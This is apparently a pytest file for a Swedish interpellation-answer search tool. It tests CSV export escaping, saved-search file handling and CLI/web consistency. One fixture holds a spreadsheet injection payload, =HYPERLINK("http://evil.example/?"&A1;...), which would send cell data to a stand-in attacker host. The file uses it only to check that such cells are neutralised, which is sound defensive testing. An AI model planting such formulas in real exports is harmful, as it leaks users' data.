"""Exports and saved searches at the edges (issue 24): formula-looking CSV cells, concurrent and damaged
saved-search files, and the command line's and web page's consistency on odd input."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from pathlib import Path

import pytest

from svar.search import open_index
from svar.search.cli import main
from svar.search.saved import SAVED_FILE
from svar.search.web import create_app

from conftest import SEED_001

FORMULA_ANSWER = """Svar på interpellation av Eva Exempel (V) till kulturborgarrådet Ola Test (S) om =HYPERLINK("http://evil.example/?"&A1;"klicka")
Dnr KS 2024/997

Eva Exempel (V) har frågat mig om biblioteket.

1. +SUM(1;2) hur många böcker har biblioteket?

-2+3 böcker har biblioteket. @SUM(A1) är inget svar.

Stockholm den 3 maj 2024

Ola Test
"""

# The title names a role and a party but no one: the parser cannot read the respondent's name.
NAMELESS_ANSWER = """Svar på interpellation av Eva Exempel (V) till kulturborgarrådet (S) om biblioteket och barn
Dnr KS 2024/998

Eva Exempel (V) har frågat mig om biblioteket och barn.

1. Hur ska barn få läsa i biblioteket?

Biblioteket är öppet för barn. Barn läser mycket.

Stockholm den 3 maj 2024
"""


def csv_rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


# -- 3. CSV formula injection --------------------------------------------------------------------------------


def test_csv_cells_that_look_like_formulas_are_neutralised(runner, tmp_path):
    index = str(tmp_path / "ix")
    with open_index(index, create=True) as answers:
        answers.add_text(FORMULA_ANSWER, "formula.txt")
    result = runner.invoke(main, ["search", "böcker", "--format", "csv", "--index", index])
    assert result.exit_code == 0
    rows = csv_rows(result.stdout)
    assert len(rows) == 1
    row = rows[0]
    assert row["topic"] == "'=HYPERLINK(\"http://evil.example/?\"&A1;\"klicka\")"
    assert row["question"] == "'+SUM(1;2) hur många böcker har biblioteket?"
    assert row["snippet"].startswith("'-2+3 böcker har biblioteket.")
    assert row["text"].startswith("1. +SUM(1;2)")  # not a formula: left as it is
    # Numbers stay numbers, so a negative score would too.
    assert (row["rank"], row["passage"], row["dnr"]) == ("1", "2", "KS 2024/997")
    float(row["score"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from svar.search.formatting import csv_cell

    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"a{start}1") == f"a{start}1"
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3


# -- 4. saved searches ----------------------------------------------------------------------------------------


@pytest.fixture
def seeded(runner):
    assert runner.invoke(main, ["index"]).exit_code == 0
    return Path(os.environ["SVAR_INDEX"])


def test_concurrent_watch_adds_are_all_kept(seeded):
    env = {**os.environ, "SVAR_INDEX": str(seeded)}

    def add(n: int) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "svar.search.cli", "watch", "add", f"s{n}", "barn"],
                              env=env, capture_output=True, text=True, timeout=120)

    with ThreadPoolExecutor(20) as pool:
        results = list(pool.map(add, range(20)))
    assert [(r.returncode, r.stdout) for r in results] == [(0, f"saved 's{n}': 'barn'\n") for n in range(20)]
    saved = json.loads((seeded / SAVED_FILE).read_text(encoding="utf-8"))
    assert sorted(s["name"] for s in saved["searches"]) == sorted(f"s{n}" for n in range(20))
    assert not [p.name for p in seeded.iterdir() if p.name.startswith(f".{SAVED_FILE}")]  # no temporary left


def test_a_name_with_spaces_is_confirmed_as_stored(runner, seeded):
    added = runner.invoke(main, ["watch", "add", "  fh  ", "familjehem"])
    assert (added.exit_code, added.stdout) == (0, "saved 'fh': 'familjehem'\n")
    assert json.loads(runner.invoke(main, ["watch", "list", "--json"]).stdout)[0]["name"] == "fh"
    assert runner.invoke(main, ["watch", "remove", " fh "]).stdout == "removed 'fh'\n"


@pytest.mark.parametrize("content, reason", [
    ("[]", 'not an object with a "searches" list'),
    ('{"searches": {}}', 'not an object with a "searches" list'),
    ("{nope", "not JSON: Expecting property name enclosed in double quotes at line 1 column 2"),
])
def test_a_saved_search_file_that_cannot_be_read_is_one_line(runner, seeded, content, reason):
    path = seeded / SAVED_FILE
    path.write_text(content, encoding="utf-8")
    for args in (["watch", "run"], ["watch", "list"], ["watch", "add", "x", "barn"]):
        result = runner.invoke(main, args)
        assert result.exit_code == 1, args
        assert result.stderr == (f"svar: {path}: saved searches cannot be read ({reason}); "
                                 f"fix or delete the file\n"), args
    assert path.read_text(encoding="utf-8") == content  # left for the user to fix


def test_bad_saved_searches_are_reported_and_skipped_and_the_others_run(runner, seeded, tmp_path):
    good = {"name": "fh", "query": "familjehem", "created": "", "seen_until": 0, "last_run": None, "filters": {}}
    bad = [
        {"query": "barn"},
        {"name": "when", "query": "barn", "seen_until": "igår"},
        {"name": "since", "query": "barn", "filters": {"since": "igår"}},
        {"name": "party", "query": "barn", "filters": {"party": 5}},
        "fh",
    ]
    path = seeded / SAVED_FILE
    path.write_text(json.dumps({"searches": [good, *bad]}), encoding="utf-8")
    result = runner.invoke(main, ["watch", "run", "--json"])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"svar: warning: {path}: saved search 2 skipped: no name",
        f"svar: warning: {path}: saved search 'when' skipped: seen_until 'igår' is not a number",
        f"svar: warning: {path}: saved search 'since' skipped: since 'igår': not a date; use YYYY-MM-DD "
        "(or YYYY-MM, YYYY)",
        f"svar: warning: {path}: saved search 'party' skipped: party 5 is not text",
        f"svar: warning: {path}: saved search 6 skipped: not an object",
    ]
    assert [(a["name"], a["total"]) for a in json.loads(result.stdout)] == [("fh", 3)]
    stored = json.loads(path.read_text(encoding="utf-8"))["searches"]
    assert stored[1:] == bad  # kept as they were, for the user to fix
    assert stored[0]["seen_until"] > 0
    listed = runner.invoke(main, ["watch", "list"])
    assert listed.exit_code == 0 and listed.stdout.startswith("fh: 'familjehem'")
    assert len(listed.stderr.splitlines()) == 5


# -- 10. the command line's and the web page's consistency ---------------------------------------------------


def test_watch_run_json_prints_an_empty_list_when_nothing_is_new(runner, seeded):
    runner.invoke(main, ["watch", "add", "fh", "familjehem"])
    result = runner.invoke(main, ["watch", "run", "--json"])
    assert (result.exit_code, result.stdout) == (0, "[]\n")
    assert runner.invoke(main, ["watch", "run"]).stdout == ""


def test_json_with_another_format_is_a_usage_error(runner, seeded):
    result = runner.invoke(main, ["search", "barn", "--json", "--format", "csv"])
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == ("svar: --json prints JSON: it cannot be combined with --format csv "
                             "(see: svar search --help)\n")
    same = runner.invoke(main, ["search", "barn", "--json", "--format", "json"])
    assert same.exit_code == 0 and json.loads(same.stdout)["total"] == 19


def test_remove_reports_each_dnr_once_normalised(runner, seeded):
    result = runner.invoke(main, ["remove", "ks 2022 / 65", "KS 1999/1", "ks 1999/1", "KS 2022/65"])
    assert result.exit_code == 1
    assert result.stdout == "removed KS 2022/65\n"
    assert result.stderr == "svar: no answer with Dnr 'KS 1999/1' in the index\n"


def test_a_page_past_the_last_links_to_the_last_page(seed_index_dir):
    html = create_app(seed_index_dir).test_client().get("/?q=barn&page=99").get_data(as_text=True)
    assert "There is no page 99." in html
    pager = re.search(r'<nav class="pager"[^>]*>(.*?)</nav>', html, re.S)[1]
    assert "previous" not in pager and "of 2" not in pager
    assert re.findall(r'<a rel="(\w+)" href="([^"]+)"', html) == [("last", "/?q=barn&amp;page=2")]
    assert " ".join(unescape(re.sub(r"<[^>]+>", "", pager)).split()) == "← the last page, 2"


@pytest.fixture(scope="module")
def nameless_dir(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("nameless")
    with open_index(path, create=True) as answers:
        answers.add_text(NAMELESS_ANSWER, "nameless.txt")
        answers.add_text(SEED_001.read_text(encoding="utf-8"), str(SEED_001))
    return path


def test_a_respondent_the_parser_missed_is_shown_as_unknown(runner, nameless_dir):
    listed = runner.invoke(main, ["list", "--index", str(nameless_dir)]).stdout.splitlines()
    assert listed[0] == "KS 2024/998      2024-05-03  Eva Exempel (V) → unknown (S): biblioteket och barn"
    assert listed[-1] == "unknown: a name svar could not read from the answer"
    assert sum("unknown:" in line for line in listed) == 1

    found = runner.invoke(main, ["search", "barn", "--facets", "--index", str(nameless_dir)]).stdout.splitlines()
    assert "respondent: Jan Jönsson 4 · unknown 2" in found
    assert found[-1] == "unknown: a name svar could not read from the answer"
    assert sum("unknown:" in line for line in found) == 1

    html = create_app(nameless_dir).test_client().get("/?q=barn").get_data(as_text=True)
    body = re.search(r'<section class="facet facet-respondent">(.*?)</section>', html, re.S)[1]
    values = [" ".join(unescape(re.sub(r"<[^>]+>", " ", li)).split()) for li in re.findall(r"<li.*?</li>", body, re.S)]
    assert values == ["Jan Jönsson 4", "unknown 2"]
    assert '<span class="unknown">unknown <span class="count">2</span></span>' in body  # no filter to link to
    assert html.count("a name svar could not read from the answer") == 1
    assert "Eva Exempel (V) → kulturborgarrådet (S)" in " ".join(unescape(html).split())
